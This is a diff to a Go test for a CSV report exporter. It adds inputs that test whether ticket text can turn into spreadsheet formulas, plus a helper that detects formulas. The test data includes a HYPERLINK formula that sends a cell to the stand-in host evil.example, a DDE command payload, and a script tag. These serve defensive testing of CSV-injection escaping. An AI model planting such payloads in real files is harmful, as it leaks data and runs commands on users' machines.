@@ -4,6 +4,7 @@ import (
 	"encoding/csv"
 	"fmt"
 	"io"
+	"strconv"
 	"strings"
 	"testing"
 
@@ -69,7 +70,8 @@ func TestReportOfTwoPolicies(t *testing.T) {
 // Whatever stands in a ticket, its line of the CSV reads back as it was, and no cell
 // is a formula; a bare carriage return is left out.
 func TestReportCSV(t *testing.T) {
-	hostile := []string{`=HYPERLINK("http://evil.example?x="&A1,"Click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "＝1+1", "plain; text, with \"quotes\"\nand lines", "<script>alert(1)</script>", ""}
+	hostile := []string{`=HYPERLINK("http://evil.example?x="&A1,"Click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "＝1+1", "plain; text, with \"quotes\"\nand lines", "<script>alert(1)</script>", "",
+		"hello;=1+1", "hello\t+cmd()", "hello\n@SUM(A1)", "hello, -2+3", "hello; \u00a0\"=1+1", "hello;＝1+1", "-5", "+3.25", "between;-5"}
 	h := build(t, monday("15:00:00"))
 	for i, text := range hostile {
 		h.desk.tickets = append(h.desk.tickets, &rules.Ticket{ID: fmt.Sprint(i), Subject: text, Organization: text, Group: text, Kind: "problem", Status: rules.Open, Priority: "urgent",
@@ -89,14 +91,29 @@ func TestReportCSV(t *testing.T) {
 		}
 		for i, row := range rows[1:] {
 			for k, cell := range row {
-				if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r\n") || strings.HasPrefix(cell, "＝") || strings.HasPrefix(cell, "javascript:") {
+				if formula(cell) || cell != "" && strings.ContainsAny(cell[:1], "\t\r\n") || strings.HasPrefix(cell, "javascript:") {
 					t.Errorf("%s: %s is %q", language, rows[0][k], cell)
 				}
 			}
 			for _, k := range []int{3, 4, 5} {
-				if got, want := strings.TrimPrefix(row[k], "'"), strings.ReplaceAll(hostile[i], "\r", ""); got != want {
+				if got, want := strings.ReplaceAll(row[k], "'", ""), strings.NewReplacer("\r", "", "'", "").Replace(hostile[i]); got != want {
 					t.Errorf("%s: %s is %q, want %q", language, rows[0][k], got, want)
 				}
+			}
+		}
+	}
+	for language, numbers := range map[string][]string{"en": {",-5,", ",+3.25,"}, "fr": {";-5;", ";+3.25;"}} {
+		text := h.get(t, "/report.csv?lang="+language)
+		for _, separator := range []string{";", ",", "\t"} { // as a program takes it that expects another one
+			for _, cell := range strings.FieldsFunc(text, func(r rune) bool { return strings.ContainsRune(separator+"\r\n", r) }) {
+				if formula(strings.TrimLeft(cell, " \u00a0\"")) {
+					t.Errorf("%s, by %q: %q is a formula", language, separator, cell)
+				}
+			}
+		}
+		for _, number := range numbers {
+			if !strings.Contains(text, number) {
+				t.Errorf("%s: the number in %q is changed", language, number)
 			}
 		}
 	}
@@ -104,6 +121,12 @@ func TestReportCSV(t *testing.T) {
 	if strings.Contains(page, "<script") || strings.Contains(page, `href="javascript`) {
 		t.Error("a text is markup")
 	}
+}
+
+// formula says that a spreadsheet works a cell out. A number is what it says.
+func formula(cell string) bool {
+	_, err := strconv.ParseFloat(strings.TrimRight(cell, `"`), 64)
+	return cell != "" && err != nil && strings.ContainsRune("=+-@＝＋－＠", []rune(cell)[0])
 }
 
 // A CSV that can't be finished breaks off, so that nobody takes it for the whole.
